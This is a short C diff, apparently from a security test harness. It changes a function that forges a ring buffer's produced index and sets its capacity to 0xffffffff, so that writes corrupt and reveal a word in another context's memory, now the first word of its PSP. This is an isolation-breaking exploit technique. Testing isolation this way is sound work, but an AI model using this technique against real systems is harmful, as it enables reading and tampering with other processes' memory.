@@ -34,16 +34,16 @@ static uint64_t physical(const struct ctx *c, uint64_t va)
 static void forge(struct ctx *c)
 {
     struct ctx *victim = ctx_new(c->level, OTHER_BASE, false);
-    uint64_t ring = info(c, INFO_SPARE), secret = info(victim, INFO_SECRET);
-    uint32_t index = index_of(physical(c, ring), physical(victim, secret));
+    uint64_t ring = info(c, INFO_SPARE) + PAGE_SIZE, word = victim->base + AS_IMG_MAGIC_OFF;
+    uint32_t index = index_of(physical(c, ring), physical(victim, word));
 
     ring_open(c, ring);
     person_wait();
-    poke(c, ring + AS_RING_PRODUCED, (uint64_t)(index - 1) << 32 | index);
+    poke(c, ring + AS_RING_PRODUCED, index);
     poke(c, ring + AS_RING_CAPACITY, 0xffffffff);
     person_keys("a+");
-    if (peek(victim, secret) != SECRET_WORD) {
-        learnt("a word of another context is 0x%lx", peek(victim, secret));
+    if (peek(victim, word) != AS_IMG_MAGIC) {
+        learnt("the first word of another context's PSP is 0x%lx", peek(victim, word));
     }
     person_keys("a-");
 }
